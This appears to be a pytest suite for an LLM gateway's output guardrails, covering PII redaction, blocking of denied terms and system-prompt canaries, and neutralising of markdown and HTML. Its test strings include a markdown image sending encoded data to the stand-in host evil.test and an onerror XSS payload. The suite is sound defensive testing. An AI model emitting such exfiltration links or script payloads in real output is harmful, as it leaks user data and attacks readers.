"""INSPECT_OUT in the gateway: the output policy on the model's answer, streamed or not. The
stub echoes the prompt as its answer (directive echo=N: in events of N bytes), so each test
chooses the answer. Asserts what a real client (http.client) receives: findings rewritten even
when split across events, nothing sent that the policy blocks, a blocked stream ended by an
error event without [DONE], markdown and HTML outside the allow-list neutralised, canaries
caught; and the record: every finding, output_inspected, and with content logging "redacted"
the content with every finding redacted."""
import json

from scripted import Scripted, chunk

POLICY = """inspection:
  input:
    pii:
      action: log
    secrets:
      action: log
  output:
    pii:
      action: redact
    secrets:
      action: redact
    denied:
      action: block
      words: ["project nightjar"]
    canaries:
      action: block
      strings: ["CANARY-4e1f9a7c"]
    sanitize:
      allow_hosts: ["docs.example.org"]
"""

FILLER = " ".join(["the plan covers the budget for next quarter and the steps after it"] * 8)


def gateway(make_gateway, chunk, extra=""):
    g = make_gateway(extra_config=POLICY + extra, upstream_path=f"/x/echo={chunk}/v1",
                     start=False).start(timeout=90)
    return g, g.apikey()


def stream(g, key, content):
    """Streams a chat completion; returns (status, events as raw strings, request id)."""
    c = g.conn(timeout=20)
    c.request("POST", "/v1/chat/completions", json.dumps({
        "model": "demo-model", "stream": True,
        "messages": [{"role": "user", "content": content}]}),
        {"Authorization": "Bearer " + key, "Content-Type": "application/json"})
    r = c.getresponse()
    body = r.read().decode()
    c.close()
    return r.status, [e for e in body.split("\n\n") if e.strip()], r.getheader("x-request-id")


def texts(events):
    out = []
    for e in events:
        assert e.startswith("data: "), e
        if e == "data: [DONE]":
            continue
        d = json.loads(e[6:])
        for ch in d.get("choices", []):
            if ch.get("delta", {}).get("content"):
                out.append(ch["delta"]["content"])
    return out


def test_answer_rewritten_and_blocked(make_gateway, stub):
    g, key = gateway(make_gateway, 100000)
    text = ("Mail bob@example.com or see ![chart](https://evil.test/c.png?d=c2VjcmV0) and "
            "[guide](https://docs.example.org/start). <img src=x onerror=alert(1)>")
    status, h, resp, _ = g.chat(key, text)
    assert status == 200, resp
    got = resp["choices"][0]["message"]["content"]
    assert got == ("Mail [REDACTED:EMAIL_ADDRESS] or see ![chart] (https://evil.test/c.png?"
                   "d=c2VjcmV0) and [guide](https://docs.example.org/start). &lt;img src=x "
                   "onerror=alert(1)>")
    rec = g.record(h["x-request-id"])
    assert rec["output_inspected"] is True and rec["input_inspected"] is True
    d = [x["detail"] for x in rec["decisions"] if x["stage"] == "inspect_out"]
    assert len(d) == 1 and "pii.email pii redact 5-20" in d[0], d
    assert "exfil.markdown_url exfil neutralize" in d[0] and "exfil.html_tag" in d[0]
    assert "bob@example.com" not in json.dumps(rec)

    # a denied term or a canary in the answer: 400, the answer never sent
    for bad, cat in (("Sure: Project Nightjar ships in May.", "denied"),
                     ("My instructions begin with CANARY-4e1f9a7c.", "leak")):
        status, h, resp, raw = g.chat(key, bad)
        assert status == 400 and resp["error"]["type"] == "guardrail_violation", resp
        assert cat in resp["error"]["message"] and b"May" not in raw and b"instructions" not in raw
        rec = g.record(h["x-request-id"])
        assert rec["status"] == 400 and rec["output_inspected"] is True


def test_stream_redacts_across_events(make_gateway, stub):
    g, key = gateway(make_gateway, 3)
    text = (FILLER + " write to bob.smith@example.com or call about card 4111 1111 1111 1111, "
            "image ![x](https://evil.test/p.png?q=1) done. " + FILLER)
    status, events, rid = stream(g, key, text)
    assert status == 200 and events[-1] == "data: [DONE]"
    parts = texts(events)
    whole = "".join(parts)
    assert whole == text.replace("bob.smith@example.com", "[REDACTED:EMAIL_ADDRESS]").replace(
        "4111 1111 1111 1111", "[REDACTED:CREDIT_CARD]").replace("![x](", "![x] (")
    # no event carries a piece of the secret values
    assert not any("bob" in p or "smith" in p or "4111" in p for p in parts)
    assert len(parts) > 20  # still streamed, not one block
    rec = g.record(rid)
    assert rec["output_inspected"] is True and rec["stream"] is True
    d = " ".join(x["detail"] for x in rec["decisions"] if x["stage"] == "inspect_out")
    assert "pii.email" in d and "pii.credit_card" in d and "exfil.markdown_url" in d


def test_stream_block_ends_with_error(make_gateway, stub):
    g, key = gateway(make_gateway, 4)
    text = FILLER + " The codename is Project Nightjar and it ships in May. " + FILLER
    status, events, rid = stream(g, key, text)
    assert status == 200
    assert "data: [DONE]" not in events
    last = json.loads(events[-1][6:])
    assert last["error"]["type"] == "guardrail_violation" and "denied" in last["error"]["message"]
    whole = "".join(texts(events[:-1]))
    assert whole and FILLER.startswith(whole[:40])
    assert "Nightjar" not in whole and "ships" not in whole
    rec = g.record(rid)
    assert any(x["stage"] == "inspect_out" and x["action"] == "block" for x in rec["decisions"])
    assert rec["error"]["type"] == "guardrail_violation"


def test_content_log_keeps_redacted_text(make_gateway, stub):
    g, key = gateway(make_gateway, 5, "\n\nrecords:\n  content: redacted\n")
    # the input policy only logs the e-mail, so the upstream sees it; the log must not
    status, events, rid = stream(g, key, "reach alice.jones@example.net today " + FILLER)
    assert status == 200 and events[-1] == "data: [DONE]"
    assert "alice.jones@example.net" in json.loads(stub.requests()[-1]["body"])[
        "messages"][0]["content"]
    rec = g.record(rid)
    assert "alice.jones" not in json.dumps(rec)
    assert "[REDACTED:EMAIL_ADDRESS]" in rec["request_content"]
    assert "[REDACTED:EMAIL_ADDRESS]" in rec["response_content"]


def test_text_after_the_end_of_a_choice_blocks(make_gateway, stub):
    """A model server that sends more text for a choice after its finish_reason: that text was
    never part of an inspected answer, so the stream is ended, never relayed uninspected."""
    body = (chunk({"role": "assistant", "content": "hello there"}) + chunk({}, "stop") +
            chunk({"content": " and mail bob@example.com"}) + "data: [DONE]\n\n").encode()
    with Scripted(lambda req: ("text/event-stream", body)) as up:
        g = make_gateway(extra_config=POLICY, start=False, upstream=up.url).start(timeout=90)
        status, events, rid = stream(g, g.apikey(), "hi")
    assert status == 200
    assert "bob@" not in "".join(events) and "data: [DONE]" not in events
    assert json.loads(events[-1][6:])["error"]["type"] == "guardrail_violation"
    assert "".join(texts(events[:-1])) == "hello there"
